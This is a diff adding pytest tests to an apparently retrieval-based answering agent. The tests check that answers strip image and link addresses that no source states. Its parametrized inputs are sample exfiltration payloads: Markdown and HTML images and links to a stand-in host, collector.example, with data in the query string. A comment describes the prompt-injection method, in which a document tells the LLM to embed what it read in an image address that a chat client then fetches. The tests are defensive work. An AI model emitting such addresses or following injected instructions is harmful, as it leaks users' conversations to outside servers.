@@ -142,3 +142,40 @@ def test_a_reply_that_is_not_valid_unicode_is_a_generation_failure(reply: str) -
     ans = ask(reply)
     assert not ans.generated and not ans.refused and ans.answer == ""
     assert ans.sources and any("not valid Unicode" in note for note in ans.notes), ans.notes
+
+
+@pytest.mark.parametrize(
+    "fetching",
+    [
+        "![chart](https://collector.example/p.png?d=Normans%20Normandy)",
+        '<img src="https://collector.example/p.png?d=Normans" alt="">',
+        "![chart][r]\n\n[r]: https://collector.example/p.png?d=Normans",
+        "[the source](https://collector.example/?d=Normans%20Rollo)",
+    ],
+    ids=["markdown-image", "html-image", "reference-image", "link"],
+)
+def test_an_answer_never_carries_an_address_no_source_gives(fetching: str) -> None:
+    # A document can instruct the LLM to put what it read into an image address: a chat client
+    # that renders the answer's Markdown fetches it, sending the answer to that server
+    # unasked (a link needs one click). Only addresses a source itself states are kept.
+    ans = ask(f"{SUPPORTED}\n\n{fetching}")
+    assert "collector.example" not in ans.answer, ans.answer
+    assert "The Normans gave their name to Normandy [1]." in ans.answer
+    assert any("address" in note for note in ans.notes), ans.notes
+
+
+def test_a_link_to_an_address_a_source_states_is_kept() -> None:
+    chunk = CHUNKS[0].model_copy(
+        update={"text": CHUNKS[0].text + " See https://history.example/normans for more."}
+    )
+    reply = f"{SUPPORTED}\n\n[More](https://history.example/normans)"
+    with chat_server(lambda body: reply) as server:
+        backend = LLMBackend(OpenAICompatibleLLM(server.base_url, "m"))
+        agent = Agent(
+            FakeSearch([chunk]),
+            SentenceScorer(HashingEmbedder()),
+            backend,
+            AgentConfig(refusal_threshold=0.3),
+        )
+        ans = agent.answer(PUBLIC, QUESTION)
+    assert "(https://history.example/normans)" in ans.answer, ans.answer
